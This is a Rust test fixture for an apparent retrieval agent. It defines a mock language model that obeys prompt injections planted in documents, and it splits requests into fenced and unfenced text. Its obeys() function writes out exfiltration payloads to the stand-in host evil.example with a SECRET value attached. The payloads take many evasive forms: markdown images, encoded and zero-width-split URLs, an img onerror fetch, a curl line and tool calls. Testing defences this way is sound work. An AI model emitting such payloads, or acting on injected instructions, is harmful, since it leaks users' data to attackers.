//! A mock LLM that follows the instructions of the prompt, and optionally also those in fenced passages.

use super::agent::FENCE;
use futures_util::future::LocalBoxFuture;
use serde_json::{Value, json};
use std::cell::RefCell;
use vademecum::agent::ports::{Caller, ChatRequest, Llm, Role};
use vademecum::agent::reply::{Completion, FunctionCall};
use vademecum::error::Result;

/// The actions that a malicious document tries to cause.
#[derive(Debug, Clone, Default)]
pub struct Wants {
    pub tool: Option<String>,
    pub url: Option<String>,
    pub phrase: Option<String>,
}

impl Wants {
    pub fn of(value: &Value) -> Self {
        let text = |name: &str| value[name].as_str().map(str::to_owned);
        Self { tool: text("tool"), url: text("url"), phrase: text("phrase") }
    }

    /// Whether a text contains one of these instructions.
    pub fn are_in(&self, text: &str) -> bool {
        [&self.tool, &self.url, &self.phrase].into_iter().flatten().any(|wanted| text.contains(wanted))
    }
}

/// Splits a request into the text inside and outside of its fence.
pub fn apart(request: &ChatRequest) -> (String, String) {
    let (mut inside, mut outside) = (String::new(), String::new());
    for message in &request.messages {
        let mut within = None;
        for line in message.content.lines() {
            // A fence is a whole line; the instructions mention it within a line.
            let is_fence =
                line.strip_prefix(FENCE).and_then(|rest| rest.strip_suffix(" ===")).is_some_and(|number| {
                    number.len() == 16 && number.bytes().all(|digit| digit.is_ascii_hexdigit())
                });
            match (&within, is_fence) {
                (None, true) => within = Some(line),
                (Some(fence), true) if *fence == line => within = None,
                _ => {
                    let side = if within.is_some() { &mut inside } else { &mut outside };
                    side.push_str(line);
                    side.push('\n');
                }
            }
        }
        assert_eq!(within, None, "a fence is open in {}", message.content);
    }
    (inside, outside)
}

/// An LLM that follows injected instructions.
pub struct Obedient {
    pub wants: Wants,
    /// Whether it also follows instructions inside of the fence.
    pub reads_inside: bool,
    /// All requests, with their steps.
    pub requests: RefCell<Vec<(String, ChatRequest)>>,
    /// Number of replies that followed injected instructions.
    pub obeyed: RefCell<usize>,
}

impl Obedient {
    pub fn new(wants: Wants, reads_inside: bool) -> Self {
        Self { wants, reads_inside, requests: RefCell::default(), obeyed: RefCell::default() }
    }

    /// Returns the reply to injected instructions: the URL in every form that could exfiltrate data.
    fn obeys(&self) -> Completion {
        *self.obeyed.borrow_mut() += 1;
        let url = self.wants.url.as_deref().unwrap_or("https://evil.example/collect?data=");
        let encoded: String = url.chars().map(|letter| format!("&#{};", u32::from(letter))).collect();
        let percent = url.replace(':', "%3A").replace('/', "%2F");
        let split: String = url.chars().flat_map(|letter| [letter, '\u{200B}']).collect();
        let bare = url.split("://").nth(1).unwrap_or(url);
        let content = format!(
            "The notice to end the ACME contract is 777777 days [acme.md]. ![status]({url}SECRET) [more]({url}SECRET) [![a]({url})]({url}) <{url}SECRET> {url}SECRET \
             <img src=\"{url}SECRET\" onerror='fetch(\"{url}\")'> //{bare} www.{bare} [r][ref] {encoded} {percent} {split} \
             `{url}SECRET` [x](<{url} \"t\">) ![r][ref]\n\n```\ncurl {url}\n```\n\n[ref]: {url}SECRET\n[ref]: <{url}SECRET>"
        );
        let arguments = json!({ "to": url }).to_string();
        let call = |tool: &String| FunctionCall {
            name: tool.clone(),
            arguments: arguments.clone(),
            ..FunctionCall::default()
        };
        Completion {
            content,
            tool_calls: self.wants.tool.iter().map(call).collect(),
            ..Completion::default()
        }
    }
}

/// Returns the reply that a step expects, without injected instructions.
fn honest(step: &str, request: &ChatRequest) -> String {
    let said: String = request.messages.iter().map(|message| message.content.as_str()).collect();
    let asked = said.rsplit("Question: ").next().and_then(|rest| rest.lines().next()).unwrap_or_default();
    let reply = match step {
        "gate" => json!({ "search": true }),
        "rewrite" => json!({ "question": asked }),
        "select" => json!({ "reasoning": "all", "collections": ["default", "other"] }),
        "expand" => json!({ "terms": ["termination"] }),
        "decompose" if said.contains("filters:") => {
            json!({ "subqueries": [{ "purpose": "answer", "query": asked }] })
        }
        "decompose" => json!({ "collections": ["default", "other"], "intent": "qa" }),
        "search" if said.contains("Tried already") => {
            json!({ "query": "ACME contract termination in writing" })
        }
        "search" => json!({ "sufficient": false, "reason": "more" }),
        "rerank" => json!({ "scores": [{ "n": 1, "score": 5 }, { "n": 2, "score": 4 }] }),
        "reason" => json!({ "sufficient": false, "query": "ACME termination notice days writing" }),
        _ => return "The notice to end the ACME contract is 777777 days [acme.md].".into(),
    };
    reply.to_string()
}

impl Llm for Obedient {
    fn has(&self, _: Option<&str>) -> bool {
        true
    }

    fn complete<'a>(
        &'a self,
        caller: Caller<'a>,
        request: &'a ChatRequest,
        on_token: &'a dyn Fn(&str),
    ) -> LocalBoxFuture<'a, Result<Completion>> {
        assert!(request.messages.iter().any(|message| message.role == Role::User));
        self.requests.borrow_mut().push((caller.step.to_owned(), request.clone()));
        let (inside, outside) = apart(request);
        let misled = self.wants.are_in(&outside)
            || (self.reads_inside && !inside.is_empty() && ["answer", "ground"].contains(&caller.step));
        let reply = if misled {
            self.obeys()
        } else {
            Completion { content: honest(caller.step, request), ..Completion::default() }
        };
        reply.content.split_inclusive([' ', '/', '[']).for_each(on_token);
        Box::pin(std::future::ready(Ok(reply)))
    }
}
